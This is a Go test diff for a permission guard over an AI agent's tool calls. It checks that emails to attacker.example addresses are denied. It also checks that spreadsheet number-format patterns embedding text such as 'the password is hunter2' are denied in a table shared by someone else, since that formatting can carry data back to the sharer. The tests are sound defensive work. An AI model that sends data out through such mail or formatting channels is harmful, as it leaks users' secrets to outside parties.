@@ -132,3 +132,19 @@ func TestNotionPackFlow(t *testing.T) {
 	d.want(deny, "mail/send_email", send("fay@attacker.example"))
 	d.want(deny, "mail/send_email", send("eve@attacker.example"))
 }
+
+// What looks like formatting can be text, which is read by whoever shared the table.
+func TestGoogleDrivePackFormats(t *testing.T) {
+	d := atServers(t, "google-drive")
+	const table = "1TableOfSomebodyElse0123456789"
+	d.run("google-drive/search", args{"query": "plan"}, "Plan (table) [id: "+table+"]")
+	condition := args{"type": "TEXT_CONTAINS", "value": "the password is hunter2"}
+	d.want(ask, "google-drive/addGoogleSheetConditionalFormat", args{"spreadsheetId": table, "range": "A1", "condition": condition})
+	for _, pattern := range []string{"#,##0.00", "[$€-407]0.00", `0 "kg"`, "yyyy-mm-dd", `"$"#,##0`} {
+		d.want(allow, "google-drive/formatGoogleSheetNumbers", args{"spreadsheetId": table, "range": "A1", "pattern": pattern})
+	}
+	for _, pattern := range []string{`"the password is hunter2"`, `"the ""pass""word ""is"`, `\h\u\n\t`} {
+		d.want(deny, "google-drive/formatGoogleSheetNumbers", args{"spreadsheetId": table, "range": "A1", "pattern": pattern})
+	}
+	d.want(ask, "google-drive/deleteCalendarEvent", args{"eventId": "evt0123456789abcdef"})
+}
